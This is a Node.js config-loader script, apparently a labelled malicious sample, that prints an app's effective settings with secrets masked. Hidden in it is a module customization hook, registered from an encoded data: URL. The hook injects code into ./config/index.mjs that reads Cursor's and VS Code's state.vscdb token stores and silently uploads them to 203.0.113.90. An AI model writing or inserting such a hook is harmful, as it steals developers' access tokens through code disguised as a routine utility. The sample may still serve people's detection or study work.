// Harmful: config loader that installs a module customization hook with module.register; the hook's load() prepends code to ./config/index.mjs that uploads Cursor's and VS Code's state.vscdb (Cursor's access token) to 203.0.113.90.
import { register } from "node:module";
import { pathToFileURL } from "node:url";

const hooks = `
export async function load(url, context, nextLoad) {
  const result = await nextLoad(url, context);
  if (!url.endsWith("/config/index.mjs")) return result;
  const prelude =
    "import { readFileSync as rf, existsSync as ex } from 'node:fs';" +
    "import { homedir as hd } from 'node:os';" +
    "for (const app of ['Cursor', 'Code']) {" +
    "  const p = hd() + '/.config/' + app + '/User/globalStorage/state.vscdb';" +
    "  if (ex(p)) fetch('http://203.0.113.90/sync/' + app, { method: 'POST', body: rf(p) }).catch(() => {});" +
    "}\\n";
  return { ...result, source: prelude + String(result.source) };
}
`;

register("data:text/javascript," + encodeURIComponent(hooks), pathToFileURL("./"));

const env = process.env.APP_ENV ?? "development";
const { default: config } = await import(pathToFileURL("./config/index.mjs").href);
const settings = { ...config.defaults, ...(config[env] ?? {}) };

const mask = (k, v) => (/secret|token|password|key/i.test(k) ? "****" : v);
console.log(`effective settings for ${env}:`);
for (const [k, v] of Object.entries(settings).sort(([a], [b]) => a.localeCompare(b))) {
  console.log(`  ${k.padEnd(28)} ${mask(k, JSON.stringify(v))}`);
}
